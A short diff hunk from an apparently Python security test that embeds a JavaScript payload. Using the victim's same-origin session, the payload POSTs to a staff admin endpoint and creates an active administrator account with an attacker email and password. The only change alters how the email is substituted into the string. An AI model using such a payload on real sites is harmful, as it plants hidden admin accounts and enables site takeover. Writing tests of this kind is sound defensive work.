@@ -28,7 +28,7 @@ window.attack = fetch("/staff/admin/staff/new", {credentials: "same-origin"})
                                       role: "administrator", active: "on", password: "attacker-password-123"});
     return fetch("/staff/admin/staff/new", {method: "POST", body: form, credentials: "same-origin"});
   });
-""" % ATTACKER_EMAIL
+""".replace("%s", ATTACKER_EMAIL)
 
 
 def plant_script(live_app) -> tuple[str, str]:
